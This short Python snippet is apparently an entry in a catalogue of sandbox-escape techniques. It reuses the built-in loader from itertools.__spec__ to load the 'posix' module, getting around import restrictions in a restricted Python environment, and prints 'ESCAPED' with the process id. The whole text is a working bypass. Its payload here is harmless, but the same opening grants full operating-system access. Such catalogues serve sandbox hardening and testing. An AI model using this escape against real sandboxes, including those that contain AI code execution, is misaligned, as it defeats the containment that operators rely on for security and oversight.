# technique: __spec__.loader, and the class of the spec
# goal: import
# source: own analysis
import itertools
spec = type(itertools.__spec__)('posix', itertools.__spec__.loader)
module = spec.loader.create_module(spec)
spec.loader.exec_module(module)
print('ESCAPED pid=%d' % module.getpid())
